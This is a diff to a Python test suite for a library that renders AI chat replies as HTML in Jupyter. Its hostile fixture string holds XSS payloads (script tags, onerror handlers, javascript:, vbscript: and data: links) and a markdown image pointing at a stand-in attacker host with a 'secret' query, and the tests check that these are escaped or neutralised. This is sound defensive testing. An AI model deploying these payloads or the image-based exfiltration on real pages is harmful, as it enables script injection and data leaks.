@@ -11,6 +11,7 @@ import io
 import re
 import subprocess
 import sys
+from collections.abc import Iterator
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
@@ -22,12 +23,14 @@ from fastconverse.testing import FakeBedrock
 from IPython.core.interactiveshell import InteractiveShell
 from notebooks import run_notebook
 from PIL import Image
+from traitlets.config import Config
 
 NOTEBOOK = Path(__file__).resolve().parent.parent / "examples" / "notebook_display.ipynb"
 MODEL = "us.anthropic.claude-3-5-haiku-20241022-v1:0"
 HOSTILE = (
     "# Title\n<script>alert(1)</script> <img src=x onerror=alert(2)> "
-    "[click](javascript:alert(3)) **bold** `a<b`"
+    "[click](javascript:alert(3)) **bold** `a<b` ![leak](https://attacker.example/?q=secret) "
+    "[v](vbscript:x) [d](data:text/html,<b>x</b>)"
 )
 
 
@@ -56,14 +59,21 @@ class Tags(HTMLParser):
         for tag, attrs in self.tags:
             assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
             for value in attrs.values():
-                assert not (value or "").strip().lower().startswith("javascript:"), (tag, attrs)
+                url = (value or "").strip().lower()
+                assert not url.startswith(("javascript:", "vbscript:")), (tag, attrs)
+                assert not url.startswith("data:") or url.startswith("data:image/"), attrs
+            if tag == "img":  # (only inlined images: a remote one loads without a click)
+                assert (attrs.get("src") or "").startswith("data:image/"), attrs
 
 
 @pytest.fixture(scope="module")
-def shell() -> InteractiveShell:
-    shell = InteractiveShell.instance()
+def shell() -> Iterator[InteractiveShell]:
+    config = Config()
+    config.HistoryManager.enabled = False  # (no history file, no history thread)
+    shell = InteractiveShell.instance(config=config)
     shell.run_line_magic("load_ext", "fastconverse")
-    return shell
+    yield shell
+    InteractiveShell.clear_instance()
 
 
 def bundle(shell: InteractiveShell, obj: Any) -> dict[str, Any]:
@@ -89,7 +99,10 @@ def test_a_reply_renders_markdown_and_escapes_what_the_model_wrote(
     assert "<img src=x onerror=alert(2)>" in text
     assert "a<b" in text
     assert f"{reply.model_id} · end_turn · {reply.usage.input_tokens} in · " in text
-    assert not [a for _, a in tags.tags if "href" in a]  # the javascript: link is no link
+    # the javascript:, vbscript: and data: links are no links; the image is a plain link
+    assert [a["href"] for _, a in tags.tags if "href" in a] == [
+        "https://attacker.example/?q=secret"
+    ]
 
 
 def test_the_transcript_shows_roles_tools_images_and_escapes_every_part(
@@ -332,3 +345,36 @@ def test_the_display_notebook_runs_live_in_a_jupyter_kernel(kernel_env: Path) ->
     assert (
         f"${tokens_in * 0.0008 / 1000 + tokens_out * 0.004 / 1000:,.4f}" in cost.data["text/html"]
     )
+
+
+def test_a_failed_or_async_read_stream_as_a_cells_value_shows_its_repr(
+    shell: InteractiveShell, fake_bedrock: FakeBedrock, capsys: pytest.CaptureFixture[str]
+) -> None:
+    conv = fc_client(fake_bedrock, max_attempts=1).create_conversation()
+    fake_bedrock.enqueue_error("ValidationException", "no")
+    failed = conv.stream("x")
+    with pytest.raises(Exception, match="no"):
+        failed.until_done()
+    shell.display_formatter.format(failed)
+    assert capsys.readouterr().out == f"{failed!r}\n"
+
+    async def main() -> None:
+        stream = conv.stream("y")
+        await stream.__anext__()
+        shell.display_formatter.format(stream)
+        await stream.display_async()  # (reads the rest, as the hint says)
+
+    asyncio.run(main())
+    out = capsys.readouterr().out
+    assert "await stream.display_async()` shows it live)" in out and "said: y" in out
+
+
+def test_to_html_keeps_every_message_unless_told(fake_bedrock: FakeBedrock) -> None:
+    conv = fc_client(fake_bedrock).create_conversation()
+    for word in ("one", "two", "three"):
+        conv.send(word)
+    everything = "".join(Tags(conv.to_html()).text)
+    assert "one" in everything and "earlier messages" not in everything
+    newest = "".join(Tags(conv.to_html(max_messages=2)).text)
+    assert "… 4 earlier messages" in newest and "You said: three" in newest
+    assert "You said: two" not in newest
